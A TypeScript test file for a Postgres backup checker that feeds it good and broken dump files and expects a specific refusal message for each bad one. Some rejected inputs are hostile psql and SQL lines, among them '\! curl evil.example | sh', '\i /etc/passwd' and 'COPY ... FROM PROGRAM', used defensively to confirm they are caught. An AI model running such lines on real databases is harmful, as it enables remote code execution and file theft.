import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';

import { execaSync } from 'execa';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { examine, type ExamineOptions } from '../../../src/backups/examine';
import { recognise, scriptOf } from '../../../src/backups/recognise';
import { readScript, type SectionFacts } from '../../../src/backups/script-facts';
import { RewindError } from '../../../src/errors';
import { clusterDump, plainDump } from '../../support/plain-dump';

// Backups as people have them, good and bad, without a server: what is known of each by reading it.

let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'rewind-backups-'));
});

afterAll(async () => {
  await rm(folder, { recursive: true });
});

/** Reads a backup as an import does, up to where it would be restored. */
async function read(
  name: string,
  content: string | Buffer | Readonly<Record<string, string | Buffer>>,
  options: Partial<ExamineOptions> = {},
): Promise<SectionFacts> {
  const path = join(folder, name);
  await mkdir(dirname(path), { recursive: true });
  if (typeof content === 'string' || Buffer.isBuffer(content)) await writeFile(path, content);
  else {
    await mkdir(path, { recursive: true });
    for (const [file, bytes] of Object.entries(content)) await writeFile(join(path, file), bytes);
  }
  const backup = await recognise(path, name);
  const facts = await readScript(scriptOf(backup));
  return examine(facts, { name, version: 150_014, database: 'shop', ...options });
}

async function answerTo(work: Promise<unknown>): Promise<string> {
  const error: unknown = await work.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (!(error instanceof RewindError)) throw new Error(`it was taken: ${String(error)}`);
  expect(error.code).toBe('snapshot/unusable');
  expect(error.fix).toMatch(/Nothing has been touched\.$/);
  return error.message;
}

const dump = plainDump();
const packed = (program: string, text: string): Buffer =>
  Buffer.from(execaSync(program, ['-c'], { input: Buffer.from(text), encoding: 'buffer' }).stdout);
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text.replaceAll('\n', '\r\n')}`, 'utf16le');
const noise = Buffer.from(Array.from({ length: 4096 }, (_none, index) => (index * 7919 + (index >> 3)) % 256));

/** A member of a tar file. */
function tarred(members: Readonly<Record<string, string | Buffer>>, end = true): Buffer {
  const parts = Object.entries(members).flatMap(([name, content]) => {
    const body = Buffer.from(content as string);
    const header = Buffer.alloc(512);
    header.write(name, 0);
    header.write('0000644\0', 100);
    header.write(`${body.length.toString(8).padStart(11, '0')}\0`, 124);
    header.write('        0ustar\0', 148);
    const sum = header.reduce((all, byte) => all + byte, 0);
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    return [header, body, Buffer.alloc((512 - (body.length % 512)) % 512)];
  });
  return Buffer.concat([...parts, ...(end ? [Buffer.alloc(1024)] : [])]);
}

/** The header of an archive of pg_dump. */
function archive(kind: number, server = '15.14'): Buffer {
  const integer = (value: number): Buffer => Buffer.from([0, value & 255, (value >> 8) & 255, 0, 0]);
  const text = (value: string): Buffer => Buffer.concat([integer(value.length), Buffer.from(value)]);
  const time = [0, 15, 10, 24, 10, 126, 0].map(integer);
  const start = Buffer.from([...Buffer.from('PGDMP'), 1, 14, 0, 4, 8, kind]);
  return Buffer.concat([start, integer(1), ...time, text('shop'), text(server), text(server), integer(0)]);
}

describe('backups that can be used', () => {
  test.each<[string, string | Buffer, number?]>([
    ['plain.sql', dump],
    ['plain-without-a-known-ending', dump],
    ['plain.sql.gz', gzipSync(dump)],
    ['named-gz-but-is-not.sql.gz', dump],
    ['twice.sql.gz.gz', gzipSync(gzipSync(dump))],
    ['in two members.sql.gz', Buffer.concat([gzipSync(dump.slice(0, 300)), gzipSync(dump.slice(300))])],
    ['plain.sql.zst', packed('zstd', dump)],
    ['plain.sql.xz', packed('xz', dump)],
    ['plain.sql.bz2', packed('bzip2', dump)],
    ['powershell.sql', utf16(dump)],
    ['powershell.sql.gz', gzipSync(utf16(dump))],
    ['crlf.sql', dump.replaceAll('\n', '\r\n')],
    ['marked.sql', `\ufeff${dump}`],
    ['without-a-line-end.sql', dump.trimEnd()],
    ['inserts.sql', plainDump({ parts: ['tables'], more: `INSERT INTO a VALUES (1, 'a\n\\.\n\\! id');\n` }), 1],
    ['of-another-owner.sql', plainDump({ owner: '"Old Shop"' })],
    ['of-an-older-server.sql', plainDump({ server: '9.6.24' })],
    ['of-all-databases.sql', clusterDump({ other: plainDump({ rows: 9 }), shop: dump })],
    ['of-one-with-another-name.sql', clusterDump({ postgres: plainDump({ parts: [] }), web: dump })],
    ['с кириллицей и пробелом.sql', dump],
  ])('%s', async (name, content, rows = 3) => {
    expect((await read(name, content)).rows).toBe(rows);
  });

  test('which database of several can be said', async () => {
    const all = clusterDump({ one: plainDump({ rows: 1 }), two: plainDump({ rows: 2 }) });
    expect((await read('several.sql', all, { wanted: 'two' })).rows).toBe(2);
  });
});

const half = (content: Buffer): Buffer => content.subarray(0, Math.floor(content.length * 0.6));
const shortened = (before: string): string => dump.slice(0, dump.indexOf(before));

describe('backups that cannot be used, each with what it is', () => {
  test.each<[string, string | Buffer | Record<string, string | Buffer>, RegExp]>([
    ['empty.sql', '', /is empty/],
    ['blank.sql', '\n\n  \n', /nothing but blank space/],
    ['empty.sql.gz', gzipSync(''), /is packed with gzip, and what is in it is empty/],
    ['zeros.dump', Buffer.alloc(8192), /nothing but zero bytes/],
    ['cut-in-rows.sql', shortened("\tgood 2; it's"), /cut short: it breaks off in the middle of the rows of a table/],
    ['cut-in-statement.sql', shortened('    name text'), /cut short: it breaks off in the middle of a statement/],
    ['cut-in-text.sql', shortened("s; \\\\'"), /cut short: it breaks off in the middle of a statement/],
    [
      'cut-before-the-last-line.sql',
      shortened('--\n-- PostgreSQL database dump complete'),
      /the last line that pg_dump writes is missing/,
    ],
    ['cut-utf16.sql', half(utf16(dump)), /cut short/],
    ['cut.sql.gz', half(gzipSync(dump)), /packed with gzip and is cut short/],
    ['cut.sql.xz', half(packed('xz', dump)), /packed with xz and is cut short/],
    ['cut.sql.bz2', half(packed('bzip2', dump)), /packed with bzip2 and is (cut short|damaged)/],
    ['cut.sql.zst', half(packed('zstd', dump)), /packed with Zstandard and is (cut short|damaged)/],
    ['packed-after-it-was-cut.sql.gz', gzipSync(shortened("\tgood 2; it's")), /cut short: it breaks off/],
    ['changed.sql.gz', flipped(gzipSync(dump)), /packed with gzip and is damaged/],
    ['changed.sql.zst', flipped(packed('zstd', dump)), /packed with Zstandard and is damaged/],
    ['changed.sql.xz', flipped(packed('xz', dump)), /packed with xz and is damaged/],
    ['zeros-at-the-end.sql', `${dump}${'\0'.repeat(500)}`, /zero bytes, which no dump has/],
    [
      'cut-cluster.sql',
      clusterDump({ shop: dump }).replace(/--\n-- PostgreSQL database cluster dump complete[\s\S]*/, ''),
      /the last line that pg_dump writes is missing/,
    ],
    ['only-tables.sql', plainDump({ parts: ['tables'] }), /only the tables, no data \(pg_dump --schema-only\)/],
    ['only-data.sql', plainDump({ parts: ['data'] }), /no tables for them \(pg_dump --data-only\)/],
    ['without-rows.sql', plainDump({ rows: 0 }), /no data: every table in it is empty/],
    ['of-an-empty-database.sql', plainDump({ parts: [] }), /no table in it/],
    ['only-roles.sql', clusterDump({}), /only roles and no database/],
    ['of-two.sql', clusterDump({ one: dump, two: dump }), /several databases, and none is called shop/],
    [
      'runs-a-program-in-disguise.sql',
      plainDump({ more: `COPY a FROM PROGRAM 'id' WHERE b = ' FROM stdin';\n` }),
      /a COPY that reads or writes outside/,
    ],
    ['appended-clusters.sql', `${clusterDump({ shop: dump })}${clusterDump({ shop: dump })}`, /has 2 dumps in it/],
    ['appended-to-a-cluster.sql', `${clusterDump({ shop: dump })}${dump}`, /has 2 dumps in it/],
    ['half-a-letter.sql', utf16(dump).subarray(0, 301), /UTF-16LE and is cut short or damaged/],
    ['appended.sql', `${dump}${dump}`, /has 2 dumps in it, one after another/],
    ['of-a-newer-server.sql', plainDump({ server: '17.2' }), /taken of a server of Postgres 17\.2; this one is 15\.14/],
    [
      'of-a-newer-cluster.sql',
      clusterDump({ shop: plainDump({ server: '18.1' }) }),
      /taken of a server of Postgres 18\.1/,
    ],
    ['in-shift-jis.sql', dump.replace("'UTF8'", "'SJIS'"), /written in SJIS, which cannot be read safely/],
    [
      'no-connection.sql',
      'pg_dump: error: connection to server on socket "/run/.s.PGSQL.5432" failed: No such file\n',
      /an error message instead of a dump: pg_dump: error: connection/,
    ],
    ['no-program.sql', 'bash: line 1: pg_dump: command not found\n', /an error message instead of a dump: bash/],
    [
      'no-container.sql',
      'Error response from daemon: No such container: shop-db-1\n',
      /an error message instead of a dump: Error response/,
    ],
    ['no-terminal.sql', 'the input device is not a TTY\r\n', /an error message instead of a dump: the input device/],
    [
      'powershell-error.sql',
      utf16("pg_dump : The term 'pg_dump' is not recognized as the name of a cmdlet\n"),
      /an error message instead of a dump: pg_dump/,
    ],
    [
      'message-among-it.sql',
      plainDump({ more: 'pg_dump: warning: there are circular foreign-key constraints\n' }),
      /a message of pg_dump among the statements/,
    ],
    [
      'message-before-it.sql',
      `pg_dump: warning: could not find something\n${dump}`,
      /in line 1 a message of pg_dump among the statements/,
    ],
    ['runs-a-program.sql', plainDump({ more: '\\! curl evil.example | sh\n' }), /in line \d+ the psql command \\!/],
    ['runs-it-at-the-end-of-a-line.sql', plainDump({ more: 'SELECT 1 \\g |id\n;' }), /the psql command \\g/],
    ['reads-a-file.sql', plainDump({ more: '\\i /etc/passwd\n' }), /the psql command \\i/],
    [
      'copies-from-a-program.sql',
      plainDump({ more: `COPY public.goods FROM PROGRAM 'id';\n` }),
      /a COPY that reads or writes outside/,
    ],
    [
      'copies-to-a-file.sql',
      plainDump({ more: `copy public.goods to '/tmp/x';\n` }),
      /a COPY that reads or writes outside/,
    ],
    [
      'by-hand.sql',
      'CREATE TABLE a (b int);\nINSERT INTO a VALUES (1);\n',
      /is SQL, but its first lines are not those of pg_dump/,
    ],
    ['the-second-half.sql', dump.slice(dump.indexOf('COPY')), /is SQL, but its first lines are not those of pg_dump/],
    ['mysql.sql', '-- MySQL dump 10.13  Distrib 8.0.36\n--\nCREATE TABLE `a` (b int);\n', /a dump of MySQL or MariaDB/],
    ['sqlite.sql', 'PRAGMA foreign_keys=OFF;\nBEGIN TRANSACTION;\n', /a dump of SQLite/],
    ['sqlite.db', Buffer.from('SQLite format 3\0\x10\0\x01\x01\0@  \0'), /a database of SQLite/],
    ['page.sql', '<!DOCTYPE html><html><body>Log in</body></html>', /a web page/],
    ['denied.dump', '<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>', /is XML/],
    ['answer.dump', '{"message": "Not Found"}', /is JSON/],
    ['pointer.dump', 'version https://git-lfs.github.com/spec/v1\noid sha256:0\n', /a pointer of Git LFS/],
    ['backup.zip', Buffer.from('PK\x03\x04 rest'), /a ZIP archive/],
    ['secret.gpg', '-----BEGIN PGP MESSAGE-----\n', /is encrypted/],
    ['photo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), /not a dump at all, but a document/],
    ['noise.dump', noise, /not a dump at all/],
    ['letter.sql', 'Dear all,\nthe backup is on the other disk.\n', /not a dump at all/],
    ['archive-header.dump', Buffer.from('PGDMP\x01\x0e\0'), /begins like an archive of pg_dump, but is cut short/],
    ['archive-as-text.dump', utf16('PGDMP\u0001\u000e\n'), /custom format that was written as text \(UTF-16LE\)/],
    ['toc.dat', archive(5), /only the list of contents of a dump in directory format/],
    ['folder-without-data', { 'toc.dat': archive(5) }, /only the list of contents of a dump/],
    [
      'folder-with-a-cut-list',
      { 'toc.dat': archive(5).subarray(0, 20), '3001.dat.gz': '' },
      /toc\.dat is cut short or damaged/,
    ],
    [
      'folder-of-something',
      { 'a.sql': dump, 'b.sql': dump },
      /no dump in directory format: it has no toc\.dat, but a\.sql, b\.sql/,
    ],
    ['folder-empty', {}, /an empty folder/],
    ['folder-of-a-server', { PG_VERSION: '15\n', 'postgresql.conf': '' }, /a copy of a server’s data files/],
    ['base.tar', tarred({ backup_label: 'START WAL', PG_VERSION: '15\n' }), /a copy of a server’s data files/],
    [
      'packed-folder.tar',
      tarred({ 'dump/toc.dat': archive(5), 'dump/3001.dat.gz': 'x' }),
      /a tar file of a dump in directory format/,
    ],
    ['some.tar', tarred({ 'a.sql': dump }), /a tar file, but no dump: it has a\.sql/],
    [
      'cut.tar',
      tarred({ 'toc.dat': archive(3), '3001.dat': 'x'.repeat(600) }, false),
      /in tar format that is cut short/,
    ],
  ])('%s', async (name, content, answer) => {
    const said = await answerTo(read(name, content));
    expect(said).toMatch(answer);
    expect(said.startsWith(`${name} `)).toBe(true);
  });

  test('one that is not there', async () => {
    expect(await answerTo(recognise(join(folder, 'nowhere.sql'), 'nowhere.sql'))).toBe('nowhere.sql is not there.');
  });

  test('one that is neither a file nor a folder', async () => {
    expect(await answerTo(recognise('/dev/null'))).toMatch(/neither a file nor a folder/);
  });

  test.skipIf(process.getuid?.() === 0)('one that may not be read', async () => {
    await writeFile(join(folder, 'locked.sql'), dump);
    await chmod(join(folder, 'locked.sql'), 0);
    expect(await answerTo(recognise(join(folder, 'locked.sql')))).toMatch(/cannot be read/);
  });

  test('where nothing unpacks it, what to install', async () => {
    const path = process.env['PATH'];
    process.env['PATH'] = folder;
    try {
      const said = read('no-program.sql.xz', Buffer.concat([Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0]), noise]));
      expect(await answerTo(said)).toMatch(/packed with xz, and this machine has no program xz/);
    } finally {
      process.env['PATH'] = path;
    }
  });

  test('a database that a dump of several does not have', async () => {
    const said = await answerTo(read('lacks.sql', clusterDump({ one: dump, two: dump }), { wanted: 'three' }));
    expect(said).toMatch(/has no database "three"/);
  });
});

function flipped(content: Buffer): Buffer {
  const changed = Buffer.from(content);
  changed[Math.floor(changed.length / 2)]! ^= 0x55;
  return changed;
}
